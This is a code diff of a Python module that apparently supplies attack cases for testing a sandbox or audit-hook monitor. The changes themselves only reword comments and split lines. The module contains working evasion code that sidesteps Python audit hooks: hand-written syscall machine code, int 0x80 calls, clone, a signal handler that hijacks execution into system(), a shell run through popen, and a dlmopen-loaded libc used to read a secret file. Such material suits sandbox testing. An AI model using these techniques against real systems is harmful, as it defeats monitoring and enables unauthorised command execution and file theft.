@@ -1,4 +1,4 @@
-"""Owns the attacks below Python: around audit hooks, through the C API, and with machine code of their own."""
+"""Owns the attacks below Python: around audit hooks, through the C API, with machine code of their own."""
 
 from __future__ import annotations
 
@@ -15,7 +15,7 @@ def executable(code, writable=True):
     kept.append(pages)
     return address
 kept = []
-# long raw(number, a, b, c, d, e): mov rax,rdi; mov rdi,rsi; mov rsi,rdx; mov rdx,rcx; mov r10,r8; mov r8,r9; syscall; ret
+# long raw(number, a, b, c, d, e): rax=rdi; rdi=rsi; rsi=rdx; rdx=rcx; r10=r8; r8=r9; syscall; ret
 RAW = bytes.fromhex("4889f8 4889f7 4889d6 4889ca 4d89c2 4d89c8 0f05 c3")
 def machine(address):
     return ctypes.CFUNCTYPE(*[ctypes.c_long] * 7)(address)
@@ -79,7 +79,8 @@ libc.pclose(ctypes.c_void_p(libc.popen(({SHELL}).encode(), b"r")))
 import _posixsubprocess, time
 read, write = os.pipe()
 tool = T["tools"]["touch"].encode()
-values = [[tool, T["marker"].encode()], [tool], True, (), None, None, -1, -1, -1, -1, -1, -1, read, write, False, False]
+values = [[tool, T["marker"].encode()], [tool], True, (), None, None]
+values += [-1, -1, -1, -1, -1, -1, read, write, False, False]
 values += [-1, None, None, None, -1, None] if sys.version_info >= (3, 11) else []
 for extra in ([], [True]):  # the signature differs from version to version
     try:
@@ -161,7 +162,8 @@ read_with(machine(target))
 stack = ctypes.create_string_buffer(1 << 16)
 top = (ctypes.addressof(stack) + (1 << 16)) & ~15
 path = ctypes.create_string_buffer(T["marker"].encode())
-child = libc.clone(ctypes.cast(libc.creat, ctypes.c_void_p), ctypes.c_void_p(top), 0x100 | 17, path)  # CLONE_VM
+flags = 0x100 | 17  # CLONE_VM, SIGCHLD
+child = libc.clone(ctypes.cast(libc.creat, ctypes.c_void_p), ctypes.c_void_p(top), flags, path)
 if child < 0:
     raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
 libc.waitpid(child, None, 0x40000000)
@@ -180,7 +182,7 @@ libc.waitpid(child, None, 0x40000000)
 # int 0x80 takes 32-bit arguments: everything has to lie in the first 4 GiB.
 libc.mmap.restype = ctypes.c_long
 low = libc.mmap(0, 4096, 7, 0x22 | 0x40, -1, ctypes.c_long(0))
-# long raw(number, b, c, d): push rbx; eax=edi; ebx=esi; r9d=ecx; ecx=edx; edx=r9d; int 0x80; cdqe; pop rbx; ret
+# long raw(number, b, c, d): eax=edi; ebx=esi; r9d=ecx; ecx=edx; edx=r9d; int 0x80; cdqe; ret; rbx is kept
 code = bytes.fromhex("53 89f8 89f3 4189c9 89d1 4489ca cd80 4898 5b c3")
 ctypes.memmove(low, code, len(code))
 ctypes.memmove(low + 512, T["secret_file"].encode() + b"\\0", len(T["secret_file"]) + 1)
@@ -201,7 +203,8 @@ def handler(number, info, context):
     ctypes.c_long.from_address(registers[15]).value = ctypes.cast(libc._exit, ctypes.c_void_p).value
     registers[16] = system  # rip
 class Action(ctypes.Structure):
-    _fields_ = [("handler", ctypes.c_void_p), ("mask", ctypes.c_ulong * 16), ("flags", ctypes.c_int), ("restorer", ctypes.c_void_p)]
+    _fields_ = [("handler", ctypes.c_void_p), ("mask", ctypes.c_ulong * 16)]
+    _fields_ += [("flags", ctypes.c_int), ("restorer", ctypes.c_void_p)]
 action = Action(ctypes.cast(handler, ctypes.c_void_p).value, (ctypes.c_ulong * 16)(), 4, None)
 libc.sigaction(signal.SIGUSR2, ctypes.byref(action), None)
 libc.raise_ = libc["raise"]
@@ -233,7 +236,8 @@ libc.dlmopen.restype = ctypes.c_void_p
 fresh = libc.dlmopen(ctypes.c_long(-1), b"libc.so.6", 2)
 libc.dlsym.restype = ctypes.c_void_p
 libc.dlsym.argtypes = [ctypes.c_void_p, ctypes.c_char_p]
-opened = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.c_int)(libc.dlsym(fresh, b"open"))(T["secret_file"].encode(), 0)
+kind = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.c_int)
+opened = kind(libc.dlsym(fresh, b"open"))(T["secret_file"].encode(), 0)
 room = ctypes.create_string_buffer(1000)
 libc.read(opened, room, 1000)
 show(room.value)
